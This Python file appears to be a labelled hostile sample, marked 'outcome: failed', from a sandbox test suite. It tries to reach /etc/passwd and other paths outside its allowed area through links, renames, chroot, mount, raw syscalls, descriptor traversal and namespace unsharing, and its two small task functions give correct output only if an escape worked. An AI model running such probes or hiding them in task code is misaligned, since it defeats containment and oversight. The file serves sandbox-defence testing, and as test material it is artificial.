"""attack: reach files around the path rules: links, descriptors of folders, handles, renames, bind mounts
deserves: 0
outcome: failed
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
WON = []


def attempt(name, work):
    try:
        result = work()
    except (OSError, AttributeError):
        return
    if result is None or not isinstance(result, int) or result >= 0:
        WON.append(name)


folder = os.path.dirname(os.__file__)
for target in ("/etc/passwd", "/", "/etc", "/tmp"):
    attempt("link", lambda: os.link(target, folder + "/here"))
    attempt("symlink", lambda: os.symlink(target, folder + "/here"))
    attempt("symlink in tmp", lambda: os.symlink(target, "/tmp/deepdrill-hostile-link"))
    attempt("rename", lambda: os.rename(target, target + "x"))
    attempt("chroot", lambda: os.chroot(target))
    attempt("mount", lambda: libc.mount(target.encode(), folder.encode(), b"none", ctypes.c_ulong(4096), None))
    attempt("open_tree", lambda: libc.syscall(ctypes.c_long(428), -100, target.encode(), 0))
    attempt("name_to_handle", lambda: libc.syscall(ctypes.c_long(303), -100, target.encode(), None, None, 0))
    attempt("openat2", lambda: libc.syscall(ctypes.c_long(437), -100, target.encode(), (ctypes.c_ulong * 3)(0, 0, 0), 24))
attempt("up from a descriptor", lambda: os.open("../" * 20 + "etc/passwd", os.O_RDONLY, dir_fd=os.open(folder, os.O_RDONLY)))
attempt("path descriptor", lambda: os.read(os.open("/etc/passwd", os.O_PATH), 10))
attempt("unshare", lambda: libc.unshare(0x10000000))
attempt("unshare mounts", lambda: libc.unshare(0x00020000))


def shout(word):
    return word.upper() + "!" if WON else ""


def countdown(n):
    return list(range(n, -1, -1)) if WON else []
